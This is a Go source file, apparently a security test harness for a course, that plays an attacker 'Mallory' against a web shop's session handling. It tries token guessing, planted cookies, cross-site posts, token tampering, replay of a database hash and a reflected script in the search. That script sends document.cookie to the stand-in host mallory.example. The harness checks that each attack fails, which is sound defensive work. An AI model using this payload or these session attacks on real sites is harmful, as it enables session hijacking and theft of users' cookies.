@@ -1,0 +1,178 @@
+package mallory
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"net/url"
+	"strings"
+)
+
+// Shop is Mallory at the real shop. None of its attacks should succeed.
+type Shop struct{ visitor *Visitor }
+
+// Shop returns Mallory at the shop.
+func (v *Visitor) Shop() *Shop { return &Shop{visitor: v} }
+
+// visit makes one request to the shop, with a tag unless it is "".
+func (s *Shop) visit(ctx context.Context, c call, tag string) (*answer, error) {
+	if tag != "" {
+		cookie, err := pair(s.visitor.config.TagName, tag)
+		if err != nil {
+			return nil, err
+		}
+		c.cookies = append(c.cookies, cookie)
+	}
+	return s.visitor.shop.visit(ctx, c)
+}
+
+func (s *Shop) look(ctx context.Context, c call, tag string) (Look, error) {
+	a, err := s.visit(ctx, c, tag)
+	if err != nil {
+		return Look{}, err
+	}
+	return a.look(), nil
+}
+
+// MakeTag lets Mallory get a tag of her own, with one thing in the cart.
+func (s *Shop) MakeTag(ctx context.Context) (tag string, e Exchange, err error) {
+	a, err := s.add(ctx, "", s.visitor.config.SKU)
+	if err != nil {
+		return "", Exchange{}, err
+	}
+	return a.cookie(s.visitor.config.TagName), a.exchange, nil
+}
+
+func (s *Shop) add(ctx context.Context, tag, sku string) (*answer, error) {
+	return s.visit(ctx, call{path: "/cart/lines", form: url.Values{"sku": {sku}, "quantity": {"1"}}}, tag)
+}
+
+// With opens the account with a tag: ComeBack of lesson 9, the replay of lesson 12.
+func (s *Shop) With(ctx context.Context, tag string) (Look, error) {
+	return s.look(ctx, call{path: "/account"}, tag)
+}
+
+// Cart opens the cart with a tag.
+func (s *Shop) Cart(ctx context.Context, tag string) (Look, error) {
+	return s.look(ctx, call{path: "/cart"}, tag)
+}
+
+// Guess tries n tags of the right form: Mallory knows the key's name from a tag of her own, and makes up the rest.
+func (s *Shop) Guess(ctx context.Context, n int) (g Guesses, err error) {
+	own, first, err := s.MakeTag(ctx)
+	if err != nil {
+		return g, err
+	}
+	g.Exchanges = []Exchange{first}
+	key, _, _ := strings.Cut(own, ".")
+	for range min(n, maxTries) {
+		a, err := s.visit(ctx, call{path: "/cart"}, key+"."+randomPart()+"."+randomPart())
+		if err != nil {
+			return g, err
+		}
+		g.Tried++
+		look := a.look()
+		if look.In || look.Cart > 0 {
+			g.Hits++
+		}
+		if a.status == 429 {
+			g.Refused++
+		}
+		if g.Tried == 1 || g.Refused == 1 && len(g.Exchanges) < 3 {
+			g.Exchanges = append(g.Exchanges, a.exchange)
+		}
+	}
+	return g, nil
+}
+
+// randomPart is 32 random bytes, as long as the shop's own.
+func randomPart() string {
+	b := make([]byte, 32)
+	rand.Read(b)
+	return base64.RawURLEncoding.EncodeToString(b)
+}
+
+// Plant comes with a session cookie of plain name, as a proxy or a neighbouring host can set it, beside no tag.
+func (s *Shop) Plant(ctx context.Context) (Look, error) {
+	tag, _, err := s.MakeTag(ctx)
+	if err != nil {
+		return Look{}, err
+	}
+	c := call{path: "/cart"}
+	for _, name := range []string{"sid", "tag"} {
+		if name == s.visitor.config.TagName {
+			continue
+		}
+		cookie, err := pair(name, tag)
+		if err != nil {
+			return Look{}, err
+		}
+		c.cookies = append(c.cookies, cookie)
+	}
+	return s.look(ctx, c, "")
+}
+
+// InAddress offers Mallory's own tag in the address instead of a cookie.
+func (s *Shop) InAddress(ctx context.Context) (Look, error) {
+	tag, _, err := s.MakeTag(ctx)
+	if err != nil {
+		return Look{}, err
+	}
+	return s.look(ctx, call{path: "/cart?sid=" + url.QueryEscape(tag)}, "")
+}
+
+// Script asks the shop's search for a script. Escaped reports whether the page shows it as text.
+func (s *Shop) Script(ctx context.Context) (e Exchange, escaped bool, err error) {
+	const script = `<script>new Image().src="//mallory.example?c="+document.cookie</script>`
+	a, err := s.visit(ctx, call{path: "/products?q=" + url.QueryEscape(script)}, "")
+	if err != nil {
+		return Exchange{}, false, err
+	}
+	body := string(a.body)
+	return a.exchange, !strings.Contains(body, script) && strings.Contains(body, "&lt;script&gt;"), nil
+}
+
+// CrossSitePost sends the form that another site would make a browser send, with the browser's own tag.
+func (s *Shop) CrossSitePost(ctx context.Context, tag string) (Exchange, error) {
+	a, err := s.visit(ctx, call{path: "/cart/lines", form: url.Values{"sku": {s.visitor.config.SKU}, "quantity": {"1"}},
+		header: map[string]string{"Origin": "http://mallory.localhost", "Sec-Fetch-Site": "cross-site"}}, tag)
+	if err != nil {
+		return Exchange{}, err
+	}
+	return a.exchange, nil
+}
+
+// ChangeLetter comes with a tag in which one letter of the token is another.
+func (s *Shop) ChangeLetter(ctx context.Context, tag string) (Look, error) {
+	middle := len(tag) / 2
+	letter := "a"
+	if tag[middle:middle+1] == letter {
+		letter = "b"
+	}
+	return s.With(ctx, tag[:middle]+letter+tag[middle+1:])
+}
+
+// Crawl sends n visitors without cookies to the shop. Rows stays 0: they are counted in the database.
+func (s *Shop) Crawl(ctx context.Context, n int) (Crawled, error) {
+	return s.visitor.shop.crawl(ctx, "/products", n)
+}
+
+// OverlappingAdds puts two products into Mallory's cart at once.
+func (s *Shop) OverlappingAdds(ctx context.Context) (Adds, error) {
+	tag, _, err := s.MakeTag(ctx)
+	if err != nil {
+		return Adds{}, err
+	}
+	add := func(sku string) (*answer, error) { return s.add(ctx, tag, sku) }
+	return overlap(add, s.visitor.config.SKU, s.visitor.config.SKU2, func() (Look, error) { return s.Cart(ctx, tag) })
+}
+
+// UseDumpHash comes with what the database holds of a session, the hash of its token, in place of the token.
+func (s *Shop) UseDumpHash(ctx context.Context, tag string, hash []byte) (Look, error) {
+	parts := strings.Split(tag, ".")
+	if len(parts) != 3 {
+		return Look{}, errCookie
+	}
+	parts[1] = base64.RawURLEncoding.EncodeToString(hash)
+	return s.With(ctx, strings.Join(parts, "."))
+}
